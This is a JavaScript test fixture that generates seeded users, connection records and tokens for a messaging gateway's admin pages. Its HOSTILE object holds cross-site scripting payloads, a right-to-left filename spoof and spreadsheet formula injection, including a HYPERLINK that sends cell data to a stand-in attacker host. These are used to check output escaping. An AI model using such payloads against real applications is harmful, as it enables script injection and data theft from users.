// Users with records, live connections and tokens, the same for the same seed.

import { createHash } from 'node:crypto';

import { shown } from './clock.mjs';

const FAMILIES = ['Zhang', 'Wang', 'Li', 'Chen', 'Smith', 'García', 'Müller', 'Okafor'];
const GIVEN = ['Wei', 'Fang', 'Min', 'Ana', 'Jonas', 'Chidi', 'Olga', 'Sam'];
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X)',
  'OpenIM-SDK-Core/3.8.3 (darwin)',
  'unknown',
];
const TTL = 90 * 86_400_000;

/** Texts that a page must show as they are. */
export const HOSTILE = {
  userId: '666',
  fullName: `<img src=x onerror="window.hacked=1">'"</td><script>window.hacked=2</script>\u202Etxt.exe`,
  userAgent: '=HYPERLINK("http://evil.example/?x="&A1,"open"),<svg onload=window.hacked=3>',
  deviceId: '+1+1',
  remoteAddress: '@SUM(1+1)',
};

export const sha256 = (text) => createHash('sha256').update(text).digest('hex');

/** Random numbers below `n`, the same for the same seed (mulberry32). */
function draws(seed) {
  let state = seed;
  return (n) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * n);
  };
}

/** So many users, about as many ended records, and the hostile one. */
export class Population {
  records = [];
  tokens = [];
  denied = new Map();
  #next = 7_300_000_000_000n;

  constructor(users, seed = 1) {
    const draw = draws(seed);
    const now = Date.now();
    for (let at = 0; at < users; at += 1) {
      const userId = String(101 + at);
      const fullName = `${FAMILIES[draw(FAMILIES.length)]} ${GIVEN[draw(GIVEN.length)]}`;
      const opened = now - 60_000 * (1 + draw(600));
      if (draw(2)) {
        const ended = this.connect({ userId, fullName, platformID: 1 + draw(9), userAgent: AGENTS[draw(4)], onlineAt: opened - 9e6 });
        ended.offlineAt = opened - 1_000_000;
      }
      this.connect({ userId, fullName, platformID: 1 + draw(9), userAgent: AGENTS[draw(4)], onlineAt: opened });
      if (draw(4) === 0) {
        this.connect({ userId, fullName, userAgent: AGENTS[0], deviceId: `web-${userId}`, onlineAt: opened + 30_000 });
      }
    }
    this.connect({ ...HOSTILE, platformID: 5, onlineAt: now - 5_000 });
  }

  /**
   * Opens a connection: of the gateway with a platform, else of the message center.
   * @param {{ userId: string, fullName: string, platformID?: number, onlineAt?: number, userAgent?: string, deviceId?: string,
   *   remoteAddress?: string }} opening
   */
  connect({ platformID, userId, onlineAt = Date.now(), ...more }) {
    this.#next += 4_194_304n;
    const id = String(this.#next);
    const token = platformID && sha256(`${userId}/${platformID}/${id}`);
    if (token) {
      this.tokens.push({ userId, sha256: token, platformID, state: 'good', issuedAt: onlineAt - 1_000, expiresAt: onlineAt + TTL });
    }
    const record = {
      id,
      tenantId: '0',
      userId,
      userAgent: 'unknown',
      deviceId: 'unknown',
      remoteAddress: `10.0.${(Number(userId) || 0) % 250}.${1 + (this.records.length % 250)}`,
      onlineAt,
      connID: sha256(id).slice(0, 32),
      platformID,
      token,
      ...more,
    };
    this.records.push(record);
    return record;
  }

  /** What lists and orders look at: only users with a number have records. */
  get directory() {
    return this.records.filter((record) => /^\d+$/.test(record.userId));
  }

  /** @param {(record: any) => boolean} test */
  live(test = (_) => true) {
    return this.records.filter((record) => record.offlineAt === undefined && test(record));
  }
}

/** A record as lists show it. */
export const row = (record) => ({
  id: record.id,
  userId: record.userId,
  fullName: record.fullName,
  userAgent: record.userAgent,
  deviceId: record.deviceId,
  remoteAddress: record.remoteAddress,
  online: record.offlineAt === undefined,
  onlineDate: shown(record.onlineAt),
  ...(record.offlineAt === undefined ? {} : { offlineDate: shown(record.offlineAt) }),
});

/** A live connection as a user's page shows it. */
export const socket = (record) => ({
  connID: record.connID,
  protocol: record.platformID ? 'openim' : 'messageCenter',
  ...(record.platformID ? { platformID: record.platformID, isBackground: false, tokenSha256: record.token } : {}),
  recordId: record.id,
  deviceId: record.deviceId,
  remoteAddress: record.remoteAddress,
  userAgent: record.userAgent,
  onlineDate: shown(record.onlineAt),
});
